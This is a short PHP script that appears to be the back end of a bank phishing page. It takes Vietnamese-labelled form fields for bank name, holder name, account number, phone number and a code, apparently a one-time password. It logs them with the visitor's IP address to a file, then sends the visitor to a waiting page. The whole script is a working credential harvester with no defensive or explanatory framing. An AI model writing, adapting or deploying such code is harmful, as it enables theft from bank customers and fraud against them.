<?php
require __DIR__ . '/config.php';
$cut = fn (string $field): string => substr(str_replace(['|', "\r", "\n"], ' ', (string) ($_POST[$field] ?? '')), 0, 80);
$line = implode('|', [date('Y-m-d H:i:s'), $_SERVER['REMOTE_ADDR'], ...array_map($cut, ['nganhang', 'ten', 'tk', 'sdt', 'ma'])]);
if ($_SERVER['REQUEST_METHOD'] === 'POST' && filesize($LOG) < 200_000) {
    file_put_contents($LOG, $line . "\n", FILE_APPEND | LOCK_EX);
}
header('Location: /cho.html');
